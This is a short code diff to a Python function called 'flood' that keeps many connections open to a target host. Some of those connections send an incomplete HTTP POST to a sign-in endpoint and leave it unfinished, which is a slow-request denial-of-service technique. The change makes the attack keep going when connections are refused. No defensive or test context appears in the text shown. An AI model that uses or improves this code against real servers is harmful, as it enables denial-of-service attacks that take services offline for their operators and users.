@@ -33,8 +33,12 @@ def flood(host, port, source, idle, dripping):
     turn = 0
 
     def keep():
-        while len(held) < idle + dripping:
-            s = connect(host, port, source)
+        """Refused connections count as lost: the next turn tries them again."""
+        for _ in range(idle + dripping - len(held)):
+            try:
+                s = connect(host, port, source)
+            except OSError:
+                continue
             held[s] = sum(held.values()) < dripping
             if held[s]:
                 send(s, b"POST /v1/auth/sign-in HTTP/1.1\r\nHost: x\r\nX: ")
